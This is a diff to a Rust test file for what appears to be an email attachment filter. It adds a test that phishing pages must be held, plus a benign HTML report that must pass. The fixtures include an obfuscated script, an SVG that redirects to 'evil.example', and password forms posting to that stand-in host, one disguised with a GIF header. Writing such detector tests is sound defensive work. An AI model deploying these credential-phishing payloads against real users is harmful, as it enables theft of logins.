@@ -125,10 +125,31 @@ fn past_the_bounds_mail_is_held() {
     }
 }
 
+/// They had 24 to 69 points.
+#[test]
+fn pages_that_phish_are_held() {
+    let cases = [
+        ("Remittance.html", "text/html", "<script>document.write(unescape('%3Cform%20action=x'))</script>"),
+        (
+            "drawing.svg",
+            "image/svg+xml",
+            "<svg xmlns='http://www.w3.org/2000/svg'><script>location='//evil.example'</script></svg>",
+        ),
+        ("login.htm", "text/html", "<form action=http://evil.example><input type=password></form>"),
+        ("login.htm", "text/html", "GIF89a\0\0<form action=http://evil.example><input type=password></form>"),
+    ];
+    for (name, declared, page) in cases {
+        let (points, names) = judged(&letter(&[(name, declared, page.into())]));
+        assert!(points >= HELD, "{page}: {points} {names:?}");
+    }
+}
+
 #[test]
 fn what_offices_send_is_not_held() {
     const ANY: &str = "application/octet-stream";
-    let cases: [(&str, Vec<File<'_>>); 5] = [
+    let report = "<html><h1>Report</h1><script>draw([1, 2, 3])</script><form><input type=text></form></html>";
+    let cases: [(&str, Vec<File<'_>>); 6] = [
+        ("a report with a chart", vec![("report.html", "text/html", report.into())]),
         ("many photos, packed", vec![("photos.zip", "application/zip", zip(3_000, "jpg", &[]))]),
         ("a long document", vec![("plan.docx", ANY, zip(300, "png", &["[Content_Types].xml"]))]),
         ("many files", many(150, ("plan.pdf", "application/pdf", b"%PDF-1.7\n".to_vec()))),
